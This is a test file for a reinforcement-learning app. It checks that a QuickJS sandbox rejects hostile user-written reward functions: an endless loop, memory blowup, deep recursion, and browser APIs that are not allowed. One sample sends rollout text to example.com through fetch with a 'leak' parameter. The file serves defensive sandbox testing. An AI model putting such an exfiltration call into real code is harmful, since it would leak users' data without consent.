/**
 * Hostile written rewards in a training run (src/controller/run-controller.ts
 * over the in-process reward side, the real QuickJS sandbox), in Node on the
 * CPU WebGPU adapter (SwiftShader): for each case of the sandbox's table
 * (test/rewards/user-reward.test.ts) the code is set live on the `user`
 * variant and one step is asked for. The step fails with the sandbox's
 * message (its line where the engine gives one) and is not applied to the
 * written reward (the step count and its parameters stay as they were); RLVR,
 * stepped before it, keeps its step once (the run steps each variant once per
 * step, and a retry steps only those not done). The run stays usable: the
 * next good code trains the written reward's step, then both go on. Each
 * case's message is printed (docs/reward-spec.md §8 copies them).
 *
 * Sized small (RLVR beside the written reward, G 2, 1 prompt, 4 held-out
 * prompts, eval at step 0 only).
 */
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { nodeContext, REPO_ROOT } from "../../src/cli/node-run";
import { parseExperiment } from "../../src/settings/experiment";
import { inProcessScorer } from "../../src/rl/reward-contract";
import {
  RunController,
  type ControllerEvent,
  type RunControllerHost,
} from "../../src/controller/run-controller";

const GOOD = "function reward(g) {\n  return g.rollouts.map((r) => r.correct);\n}\n";
const exp = parseExperiment({
  modelSize: "default", // the CPU adapter picks the small model
  task: { hintRate: 0, traceSlipRate: 0 },
  variants: [{ name: "rlvr" }, { name: "user", weights: { code: GOOD } }],
  algorithm: {
    groupSize: 2,
    batchPrompts: 1,
    evalEvery: 50,
    steps: 50,
    estimator: "rloo",
    gradClip: 1000,
    lr: 1e-3,
  },
  evalSize: 4,
});

/** Each hostile case: its code and the message the run reports (the scorer's, inside the pause reason). */
const CASES: [string, string, RegExp][] = [
  [
    "an endless loop",
    "function reward(g) {\n  let i = 0;\n  while (true) i++;\n}",
    /your reward: the reward ran past its time budget of 1000 ms for one group and was stopped in reward \(the last place the engine recorded: line 1\); an endless loop\?/,
  ],
  [
    "a throw",
    "function reward(g) {\n  const x = 1;\n  throw new Error('no reward today');\n}",
    /your reward: Error at line 3: no reward today/,
  ],
  [
    "a NaN",
    "function reward(g) {\n  return g.rollouts.map((r, i) => (i === 1 ? 0 / 0 : 1));\n}",
    /your reward: the reward\[1\] \(rollout 1\) is NaN, not a finite number/,
  ],
  [
    "a wrong length",
    "function reward(g) {\n  return [1, 0, 1];\n}",
    /your reward: the reward has 3 values for the group's 2 rollouts/,
  ],
  [
    "a 10 MB string",
    "function reward(g) {\n  const s = 'x'.repeat(10 * 1024 * 1024);\n  return g.rollouts.map(() => s.length);\n}",
    /your reward: the reward ran out of its 8 MiB of memory at line 2/,
  ],
  [
    "deep recursion",
    "function down(n) {\n  return down(n + 1) + 1;\n}\nfunction reward(g) {\n  return [down(0)];\n}",
    /your reward: the reward overflowed its stack of 256 KiB at line 2/,
  ],
  [
    "fetch",
    "function reward(g) {\n  fetch('https://example.com/?leak=' + g.rollouts[0].text);\n  return [];\n}",
    /your reward: ReferenceError at line 2: 'fetch' is not defined/,
  ],
  [
    "indexedDB",
    "function reward(g) {\n  indexedDB.open('reward-lab');\n}",
    /your reward: ReferenceError at line 2: 'indexedDB' is not defined/,
  ],
  [
    "postMessage to the page",
    "function reward(g) {\n  postMessage({ type: 'scored' });\n}",
    /your reward: ReferenceError at line 2: 'postMessage' is not defined/,
  ],
];

const host: RunControllerHost = {
  createContext: nodeContext,
  createScorer: () => inProcessScorer,
  readAsset: async (path) => {
    const file = join(REPO_ROOT, "public", path);
    return existsSync(file) ? new Uint8Array(readFileSync(file)) : null;
  },
};

/** Whether two parameter arrays are equal bit for bit. */
function same(a: Float32Array, b: Float32Array): boolean {
  if (a.length !== b.length) return false;
  for (let i = 0; i < a.length; i++) if (!Object.is(a[i], b[i])) return false;
  return true;
}

describe("hostile written rewards in a run (small model, CPU WebGPU adapter)", () => {
  const events: ControllerEvent[] = [];
  let controller: RunController;
  beforeAll(() => {
    controller = new RunController(host, (ev) => events.push(ev));
  });
  afterAll(() => controller?.dispose());
  const errors = (from: number) =>
    events
      .slice(from)
      .filter((e): e is Extract<ControllerEvent, { type: "error" }> => e.type === "error")
      .map((e) => e.message);

  it("each case fails its step with its message; nothing is applied; good code then trains", async () => {
    await controller.send({ type: "init", experiment: exp });
    expect(errors(0)).toEqual([]);
    const run = controller.run!;
    const before = await run.variantParams("user");
    let rlvrAfter: Float32Array | null = null;
    for (const [what, code, message] of CASES) {
      await controller.send({ type: "setWeights", variant: "user", weights: { code } });
      const at = events.length;
      await controller.send({ type: "step" });
      await controller.whenIdle();
      const got = errors(at);
      // The line the docs' table copies.
      console.info(`[hostile] ${what}: ${got.join(" | ")}`);
      expect(got.length, what).toBeGreaterThan(0);
      expect(got.join("\n"), what).toMatch(message);
      expect(controller.step, what).toBe(0);
      expect(same(await run.variantParams("user"), before), `${what}: user params`).toBe(true);
      // RLVR's step 1 was done with the first failed try, and never again.
      const rlvr = await run.variantParams("rlvr");
      rlvrAfter ??= rlvr;
      expect(same(rlvr, rlvrAfter), `${what}: rlvr params`).toBe(true);
    }
    const rlvrRows = events
      .flatMap((e) => (e.type === "metrics" ? e.rows : []))
      .filter((r) => r.kind === "train" && r.variant === "rlvr");
    expect(rlvrRows.map((r) => r.step)).toEqual([1]);
    // The run is intact: good code trains the step, both variants get their row.
    await controller.send({ type: "setWeights", variant: "user", weights: { code: GOOD } });
    const at = events.length;
    await controller.send({ type: "step" });
    await controller.whenIdle();
    expect(errors(at)).toEqual([]);
    expect(controller.step).toBe(1);
    await controller.send({ type: "step" });
    await controller.whenIdle();
    expect(errors(at)).toEqual([]);
    expect(controller.step).toBe(2);
    const trained = events
      .slice(at)
      .flatMap((e) => (e.type === "metrics" ? e.rows : []))
      .filter((r) => r.kind === "train")
      .map((r) => [r.variant, r.step]);
    expect(trained).toEqual([
      ["user", 1],
      ["rlvr", 2],
      ["user", 2],
    ]);
    expect(same(await run.variantParams("user"), before)).toBe(false);
  }, 300_000);
});
